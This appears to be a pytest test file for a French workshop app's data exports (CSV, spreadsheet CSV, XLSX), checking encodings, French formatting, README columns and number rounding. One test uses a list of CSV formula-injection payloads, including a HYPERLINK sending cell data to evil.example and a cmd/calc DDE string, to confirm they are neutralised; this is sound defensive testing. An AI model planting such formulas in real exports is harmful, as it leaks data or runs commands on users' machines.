"""The report's data files, read back as their users read them.

- the open-data CSV: commas, UTF-8 (no byte-order mark), stable English codes, decimal point;
- the spreadsheet CSV: what French Excel opens with a double click (semicolons, UTF-8 with a
  byte-order mark, French headers and words, decimal comma);
- formula injection (OWASP "CSV injection") neutralised in every CSV the app writes, the
  synthesis's too, while numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from workshop.db import Database
from workshop.demo import build_past_demo
from workshop.models import Activity, CardKind
from workshop.reports import export_report, export_synthesis
from workshop.reports.data import DataTable, write_csv_zip, write_sheet_csv_zip
from workshop.reports.figures import stakes_by_college_figure
from workshop.services import cards, votes

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+SUM(A1:A9)", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3"]


@pytest.fixture
def sqlite(tmp_path, _sqlite_template):
    path = tmp_path / "data.sqlite3"
    shutil.copy(_sqlite_template, path)
    database = Database(f"sqlite:///{path}")
    yield database
    database.dispose()


def _zip(path, delimiter=","):
    with zipfile.ZipFile(path) as archive:
        raw = {n[:-4]: archive.read(n) for n in archive.namelist() if n.endswith(".csv")}
    return raw, {k: list(csv.reader(io.StringIO(v.decode("utf-8-sig"), newline=""), delimiter=delimiter)) for k, v in raw.items()}


@pytest.fixture(scope="module")
def creil(tmp_path_factory):
    folder = tmp_path_factory.mktemp("data")
    db = Database(f"sqlite:///{folder / 'creil.sqlite3'}")
    db.create_schema()
    demo = build_past_demo(db)
    paths = export_report(db, demo.seminar_id, ["csv", "csv-tableur", "xlsx"], folder)
    yield db, demo, paths
    db.dispose()


def test_open_data_csv_keeps_codes_commas_and_points(creil):
    _db, _demo, paths = creil
    raw, tables = _zip(paths["csv"])
    assert all(not blob.startswith(b"\xef\xbb\xbf") for blob in raw.values())  # plain UTF-8
    header, *rows = tables["cartes"]
    assert header == ["carte_id", "type", "theme", "table", "texte", "precisions", "gommettes", "votes"]
    assert {r[1] for r in rows} >= {"stake", "threat", "resource", "challenge"}
    threats = [dict(zip(tables["menaces"][0], r)) for r in tables["menaces"][1:]]
    assert any("." in r["probabilite"] for r in threats) and all("," not in r["probabilite"] for r in threats)
    assert {r["lecture"] for r in threats} <= {"major", "grave", "likely", "minor", "unrated"}
    links = [dict(zip(tables["liens"][0], r)) for r in tables["liens"][1:]]
    assert {r["relation"] for r in links} <= {"weighs_on", "supports", "counters", "influences", "leads_to"}
    with zipfile.ZipFile(paths["csv"]) as archive:
        readme = archive.read("lisez-moi.txt").decode("utf-8")
    assert "séparateur virgule" in readme and "cartes.csv" in readme and "carte_id, type, theme" in readme


def test_spreadsheet_csv_opens_in_french_excel(creil):
    """Semicolons, a byte-order mark, French headers and words, decimal comma: one column per field."""
    _db, _demo, paths = creil
    assert paths["csv-tableur"].name.endswith("_tableur-csv.zip")
    raw, tables = _zip(paths["csv-tableur"], delimiter=";")
    _, open_tables = _zip(paths["csv"])
    assert set(tables) == set(open_tables)
    for key, blob in raw.items():
        assert blob.startswith(b"\xef\xbb\xbf"), key
        assert b"\r\n" in blob  # Windows line ends
        rows = tables[key]
        assert len(rows) == len(open_tables[key])  # the same data, row for row
        assert all(len(r) == len(rows[0]) for r in rows), key  # every line splits into the same columns
    header, *rows = tables["cartes"]
    assert header == ["N° de carte", "Type", "Thème", "Table", "Texte", "Précisions", "Gommettes", "Votes"]
    assert {r[1] for r in rows} >= {"enjeu", "menace", "ressource", "défi"}
    open_rows = {r[0]: r for r in open_tables["cartes"][1:]}
    assert sum(int(r[6]) for r in rows) == sum(int(r[6]) for r in open_rows.values())
    threats = tables["menaces"]
    assert threats[0][:5] == ["N° de carte", "Texte", "Probabilité", "Gravité", "Sévérité"]
    open_threats = {r[0]: r for r in open_tables["menaces"][1:]}
    for row in threats[1:]:
        assert row[2] == open_threats[row[0]][2].replace(".", ",")  # 3,4 where the open data say 3.4
    assert any("," in row[2] for row in threats[1:])
    assert {row[6] for row in threats[1:]} <= {"Majeure", "Grave, peu probable", "Probable, peu grave", "Secondaire",
                                                "Non notée"}
    run = tables["deroule"]
    assert run[0][5] == "État" and {r[5] for r in run[1:]} == {"terminée"}
    assert all(len(r[9]) == 16 and r[9][2] == "/" for r in run[1:])  # 02/10/2026 09:00
    fields = dict(tables["seminaire"][1:])
    assert fields["État"] == "terminé" and fields["Territoire"] == "Creil Sud Oise"
    colleges = dict((r[0], r[2]) for r in tables["participation_colleges"][1:])
    assert colleges["élu"] == "2"


def test_every_csv_neutralises_formulas_and_xlsx_keeps_them_text(sqlite, tmp_path):
    db = sqlite
    demo = build_past_demo(db)
    cards_made = [cards.add_card(db, demo.seminar_id, kind=CardKind.STAKE, text=text) for text in ATTACKS]
    paths = export_report(db, demo.seminar_id, ["csv", "csv-tableur", "xlsx"], tmp_path)
    ids = {str(c.id): c.text for c in cards_made}
    for fmt, delimiter in (("csv", ","), ("csv-tableur", ";")):
        _, tables = _zip(paths[fmt], delimiter)
        rows = {r[0]: r for r in tables["cartes"][1:]}
        for card_id, text in ids.items():
            assert rows[card_id][4] == "'" + text, (fmt, rows[card_id])
    workbook = load_workbook(str(paths["xlsx"]))
    sheet = workbook["cartes"]
    cells = {str(row[0].value): row[4] for row in sheet.iter_rows(min_row=2)}
    for card_id, text in ids.items():
        assert cells[card_id].value == text and cells[card_id].data_type == "s"

    # the synthesis writes the same files: its card texts are neutralised too
    other = build_past_demo(db, run_sheet="demi-journee-decouverte")
    synthesis = export_synthesis(db, [demo.seminar_id, other.seminar_id], ["csv", "csv-tableur"], tmp_path)
    for fmt, delimiter in (("csv", ","), ("csv-tableur", ";")):
        _, tables = _zip(synthesis[fmt], delimiter)
        texts = {r[8] for r in tables["regroupements"][1:]}
        assert {"'" + a for a in ATTACKS} <= texts and not set(ATTACKS) & texts, fmt


def test_numbers_stay_numbers_and_text_is_judged_by_its_type(tmp_path):
    """-2 in a numeric column is data; "-2+3", "-2" typed as text and a leading tab are neutralised."""
    table = DataTable("essai", "Essai", ("carte_id", "texte", "poids", "moyenne"), [
        (1, "-2+3", -2, -1.5), (2, "\tcachée", 3, 2.25), (3, "-2", 0, None), (4, "\r=1+1", 1, 0.5),
        (5, "Comment faire ? 2 = 2", 2, 1.0)])
    write_csv_zip([table], tmp_path / "open.zip", readme="essai")
    write_sheet_csv_zip([table], tmp_path / "sheet.zip", readme="essai")
    _, open_data = _zip(tmp_path / "open.zip")
    _, sheet = _zip(tmp_path / "sheet.zip", ";")
    assert open_data["essai"][1:] == [["1", "'-2+3", "-2", "-1.5"], ["2", "'\tcachée", "3", "2.25"],
                                      ["3", "'-2", "0", ""], ["4", "'\r=1+1", "1", "0.5"],
                                      ["5", "Comment faire ? 2 = 2", "2", "1.0"]]
    assert sheet["essai"][1:] == [["1", "'-2+3", "-2", "-1,5"], ["2", "'\tcachée", "3", "2,25"],
                                  ["3", "'-2", "0", ""], ["4", "'\r=1+1", "1", "0,5"],
                                  ["5", "Comment faire ? 2 = 2", "2", "1"]]


def test_not_broken_down_says_the_number_of_voters_the_rule_uses(tmp_path, monkeypatch):
    """The spreadsheet CSV and the report's chart name the collèges not broken down with the rule's own
    number (``MIN_VOTERS_SHOWN``): the CSV's word said « moins de 3 votants » whatever the rule was."""
    monkeypatch.setattr(votes, "MIN_VOTERS_SHOWN", 5)
    table = DataTable("votes_par_college", "Votes", ("carte_id", "college", "gommettes", "votes"),
                      [(1, "resident", 6, 3), (1, "non_detaille", 4, 2)])
    for lang, words in (("fr", "non détaillé (moins de 5 votants)"), ("en", "not broken down (fewer than 5 voters)")):
        write_sheet_csv_zip([table], tmp_path / f"sheet-{lang}.zip", readme="essai", lang=lang)
        _, sheet = _zip(tmp_path / f"sheet-{lang}.zip", ";")
        assert [row[1] for row in sheet["votes_par_college"][1:]][1] == words, lang
    # the report's chart of the stakes by collège: its grey segment's name in the legend
    row = SimpleNamespace(text="Un enjeu", dots=10, by_college={"resident": 6}, undetailed=4)
    legend = [trace.name for trace in stakes_by_college_figure([row], ["resident"], lang="fr").data]
    assert legend[-1] == "Non détaillé (moins de 5\u00a0votants)", legend


def test_data_files_write_plain_spaces_where_the_screens_have_no_break_spaces(creil):
    """The app stores « à l'horizon 2050 » with a no-break space (kept on one line on screen) and
    the French messages space « : ? ! » the same way; the data files are read by programs, filters
    and searches that type a plain space: they hold none of U+00A0 or U+202F."""
    db, demo, paths = creil
    with db.read() as session:
        titles = [a.title for a in session.query(Activity).filter_by(seminar_id=demo.seminar_id)]
    assert any("horizon\u00a02050" in t for t in titles)  # the stored text, as the screens show it
    for kind, delimiter in (("csv", ","), ("csv-tableur", ";")):
        raw, tables = _zip(paths[kind], delimiter)
        with zipfile.ZipFile(paths[kind]) as archive:
            readme = archive.read("lisez-moi.txt").decode("utf-8-sig")
        texts = [cell for rows in tables.values() for row in rows for cell in row] + [readme]
        assert not [t for t in texts if "\u00a0" in t or "\u202f" in t], kind
        assert any("à l'horizon 2050" in row[2] for row in tables["deroule"][1:]), kind
    workbook = load_workbook(paths["xlsx"], read_only=True)
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    assert not [c for c in cells if isinstance(c, str) and ("\u00a0" in c or "\u202f" in c)]
    assert any(isinstance(c, str) and "à l'horizon 2050" in c for c in cells)


def test_the_readme_lists_every_open_data_file_with_its_real_columns(db, seminar):
    """The README's table of the open-data files is what staff and data portals read: it named
    `analyse_cartes.csv`'s columns as they were before the direct/indirect split, and left
    `exposition_enjeux.csv` out."""
    import re
    from pathlib import Path

    from workshop.reports.data import report_tables
    from workshop.reports.model import build_report

    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    documented = {}
    for line in readme.splitlines():
        found = re.match(r"\| `(\w+)\.csv` \| (.*) \|$", line)
        if found:
            documented[found.group(1)] = re.findall(r"`(\w+)`", found.group(2))
    tables = report_tables(build_report(db, seminar.seminar_id))
    assert set(documented) == {table.key for table in tables}
    for table in tables:
        named = documented[table.key]
        if table.key == "seminaire":  # its rows are named after the two columns
            named = named[:2]
        # every column, in order; codes quoted in a column's explanation may follow it
        assert [c for c in named if c in table.columns] == list(table.columns), (table.key, named)


def test_numbers_in_the_data_carry_no_binary_residue(sqlite, tmp_path):
    """The finished demo's exposure and pressure read 36.480000000000004 in both CSV flavours and
    the workbook: a sum of severity × weight, written with its binary arithmetic's residue."""
    import re

    demo = build_past_demo(sqlite)
    paths = export_report(sqlite, demo.seminar_id, ["csv", "csv-tableur", "xlsx"], tmp_path)
    residue = re.compile(r"\d[.,]\d*(?:0{6,}|9{6,})\d")
    for fmt, delimiter in (("csv", ","), ("csv-tableur", ";")):
        _raw, tables = _zip(paths[fmt], delimiter)
        found = [(name, cell) for name, rows in tables.items() for row in rows for cell in row if residue.search(cell)]
        assert found == [], fmt
    threats = _zip(paths["csv"])[1]["menaces"]
    assert "36.48" in [row[threats[0].index("pression")] for row in threats[1:]]
    workbook = load_workbook(str(paths["xlsx"]), read_only=True)
    values = [v for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True) for v in row
              if isinstance(v, float)]
    assert values and not any(residue.search(repr(v)) for v in values)


def test_every_loop_of_the_map_is_in_the_data_files(db, seminar, tmp_path):
    """The report lists six loops, then « … et 44 autres », and the README said the data files hold
    everything: no file held a loop. ``boucles.csv`` (and its sheet) now holds all 50, in the
    report's order, each with its cards in the order of their links."""
    from workshop.analysis import MAX_LOOPS
    from workshop.services import links

    sid = seminar.seminar_id
    ids = [cards.add_card(db, sid, kind="stake", text=f"Enjeu {n}").id for n in range(1, 9)]
    for a in ids:  # every stake influences every other: 28 loops of 2 links, 112 of 3…: 50 listed
        for b in ids:
            if a != b:
                links.create_link(db, sid, a, b, "influences", weight=3 if (a, b) == (ids[0], ids[1]) else 2)
    paths = export_report(db, sid, ["csv", "csv-tableur", "xlsx"], tmp_path)
    rows = _zip(paths["csv"])[1]["boucles"]
    assert rows[0] == ["boucle_id", "longueur", "force", "cartes_ids"]
    assert len(rows) - 1 == MAX_LOOPS
    assert [r[0] for r in rows[1:]] == [str(n) for n in range(1, MAX_LOOPS + 1)]
    first = rows[1]
    assert first[1:3] == ["2", "2"] and first[3] == f"{ids[0]} ; {ids[1]}"
    assert {r[1] for r in rows[1:]} == {"2", "3"} and rows[-1][1] == "3"
    sheet = _zip(paths["csv-tableur"], ";")[1]["boucles"]
    assert sheet[0] == ["N° de boucle", "Longueur (liens)", "Force (lien le plus faible)", "N° des cartes"]
    assert len(sheet) - 1 == MAX_LOOPS
    workbook = load_workbook(paths["xlsx"], read_only=True)
    assert len(list(workbook["boucles"].iter_rows(values_only=True))) - 1 == MAX_LOOPS
